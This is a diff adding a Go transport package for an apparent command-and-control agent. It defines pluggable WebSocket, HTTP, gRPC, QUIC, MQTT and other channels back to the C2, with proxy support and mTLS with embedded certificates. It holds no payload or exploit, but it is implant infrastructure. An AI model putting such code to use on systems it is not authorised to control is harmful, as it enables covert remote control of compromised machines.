@@ -0,0 +1,143 @@
+// Package transport implements the channels an agent can use to reach the
+// C2: WebSocket, HTTP(S) polling, long-polling, gRPC, QUIC, raw TCP, yamux
+// and MQTT. Transports are picked by URL scheme from Schemes and only see the
+// agent through the Host interface.
+package transport
+
+import (
+	"crypto/tls"
+	"crypto/x509"
+	"fmt"
+	"net/http"
+	"net/url"
+	"strings"
+	"time"
+)
+
+// ============================================================================
+// TRANSPORTS - Pluggable channels between the agent and the C2
+// ============================================================================
+
+// Host is what a transport needs from the agent that owns it: identity,
+// settings, the negotiated codec and the agent's cipher for transports that
+// seal their own frames
+type Host interface {
+	AgentID() string
+	Config() map[string]interface{}
+	Timeout(key string, def time.Duration) time.Duration
+	Codec() Codec
+	Credentials() Credentials
+	Seal(plaintext []byte) ([]byte, error)
+	Open(data []byte) ([]byte, error)
+	SealEnvelope(message interface{}) (map[string]interface{}, error)
+}
+
+// Credentials are the PEM blocks embedded at generation time for mTLS
+type Credentials struct {
+	ClientCert string
+	ClientKey  string
+	ServerCA   string
+}
+
+// Deadliner is implemented by stream transports whose blocking reads
+// and writes can be bounded. "read_timeout" (seconds, default off) bounds the
+// wait for the next C2 message and "write_timeout" (default 10) each send.
+type Deadliner interface {
+	SetReadDeadline(t time.Time) error
+	SetWriteDeadline(t time.Time) error
+}
+
+// BinarySender is implemented by transports that can carry binary frames
+type BinarySender interface {
+	SendBinary(data []byte) error
+}
+
+// Transport is a message channel to the C2. Send and Receive carry one JSON
+// message each; the agent serializes calls to Send.
+type Transport interface {
+	Dial(u *url.URL, header http.Header) error
+	Send(v interface{}) error
+	Receive(v *map[string]interface{}) error
+	Close() error
+}
+
+// Schemes maps ServerURL schemes to transport constructors
+var Schemes = map[string]func(h Host) Transport{
+	"ws":        NewWebSocket,
+	"wss":       NewWebSocket,
+	"http":      NewHTTP,
+	"https":     NewHTTP,
+	"longpoll":  NewLongPoll,
+	"longpolls": NewLongPoll,
+	"grpc":      NewGRPC,
+	"grpcs":     NewGRPC,
+	"quic":      NewQUIC,
+	"tcp":       NewTCP,
+	"mux":       NewMux,
+	"muxs":      NewMux,
+	"mqtt":      NewMQTT,
+	"mqtts":     NewMQTT,
+}
+
+// proxyURL returns the configured outbound proxy (proxy_url, proxy_user,
+// proxy_pass), or nil for a direct connection. Supports http:// (CONNECT),
+// https:// and socks5:// upstreams.
+func proxyURL(config map[string]interface{}) (*url.URL, error) {
+	raw, _ := config["proxy_url"].(string)
+	if raw == "" {
+		return nil, nil
+	}
+
+	proxy, err := url.Parse(raw)
+	if err != nil {
+		return nil, fmt.Errorf("invalid proxy_url: %v", err)
+	}
+	switch proxy.Scheme {
+	case "http", "https", "socks5", "socks5h":
+	default:
+		return nil, fmt.Errorf("unsupported proxy scheme: %s", proxy.Scheme)
+	}
+
+	if user, _ := config["proxy_user"].(string); user != "" {
+		pass, _ := config["proxy_pass"].(string)
+		proxy.User = url.UserPassword(user, pass)
+	}
+	return proxy, nil
+}
+
+// TLSConfig presents the client certificate for mTLS and, when a CA is
+// embedded, pins server verification to it. Returns nil when neither is
+// configured so the default TLS settings apply.
+func (c Credentials) TLSConfig() (*tls.Config, error) {
+	embedded := func(pem string) bool {
+		pem = strings.TrimSpace(pem)
+		return pem != "" && !strings.HasPrefix(pem, "{{")
+	}
+	if !embedded(c.ClientCert) && !embedded(c.ServerCA) {
+		return nil, nil
+	}
+
+	config := &tls.Config{MinVersion: tls.VersionTLS12}
+	if embedded(c.ClientCert) {
+		cert, err := tls.X509KeyPair([]byte(c.ClientCert), []byte(c.ClientKey))
+		if err != nil {
+			return nil, fmt.Errorf("invalid client certificate: %v", err)
+		}
+		config.Certificates = []tls.Certificate{cert}
+	}
+	if embedded(c.ServerCA) {
+		pool := x509.NewCertPool()
+		if !pool.AppendCertsFromPEM([]byte(c.ServerCA)) {
+			return nil, fmt.Errorf("invalid server CA certificate")
+		}
+		config.RootCAs = pool
+	}
+	return config, nil
+}
+
+// IsWebSocket reports whether t is a WebSocket transport, which the agent
+// treats as its primary channel
+func IsWebSocket(t Transport) bool {
+	_, ok := t.(*wsTransport)
+	return ok
+}